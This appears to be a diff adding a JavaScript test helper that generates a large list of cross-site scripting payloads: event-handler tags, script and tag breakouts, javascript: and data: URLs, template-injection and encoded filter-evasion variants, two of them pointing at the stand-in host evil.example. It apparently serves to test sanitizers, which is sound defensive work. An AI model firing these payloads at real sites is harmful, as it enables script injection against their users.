@@ -1,0 +1,51 @@
+/** Texts that would run as a script where text is taken for markup. */
+export function payloads() {
+  const events = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onpointerenter", "onstart"];
+  const tags = [
+    (event) => `<img src=x ${event}=alert(1)>`,
+    (event) => `<svg ${event}=alert(1)>`,
+    (event) => `<details open ${event}=alert(1)>`,
+    (event) => `<input autofocus ${event}=alert(1)>`,
+    (event) => `<body ${event}=alert(1)>`,
+    (event) => `"><video src=x ${event}=alert(1)>`,
+    (event) => `' autofocus ${event}=alert(1) x='`,
+    (event) => `</option><iframe ${event}=alert(1)>`,
+    (event) => `</bdi></p><marquee ${event}=alert(1)>`,
+    (event) => `<x style=animation-name:x ${event}=alert(1)>`,
+    (event) => `<math><mi xlink:href="javascript:alert(1)" ${event}=alert(1)>`,
+    (event) => `<a href=javascript:alert(1) ${event}=alert(1)>x</a>`,
+    (event) => `--><svg/${event}=alert(1)//`,
+    (event) => `<template><img src=x ${event}=alert(1)></template>`,
+    (event) => `<object data=x ${event}=alert(1)>`,
+    (event) => `{{constructor.constructor('alert(1)')()}} ${event}=xss(1)`,
+    (event) => `<select ${event}=alert(1)><option>`,
+    (event) => `<base href=//evil.example><img ${event}=alert(1)>`,
+  ];
+  const others = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<form action=javascript:alert(1)><button>x",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)//",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "${alert(1)}",
+    "#{alert(1)}",
+    "<%= alert(1) %>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "\\u003cimg src=x onerror=alert(1)\\u003e",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "';alert(1);'",
+    "`-alert(1)-`",
+    "x:expression(alert(1))",
+    "url('javascript:alert(1)')",
+  ];
+  return [...tags.flatMap((tag) => events.map(tag)), ...others];
+}
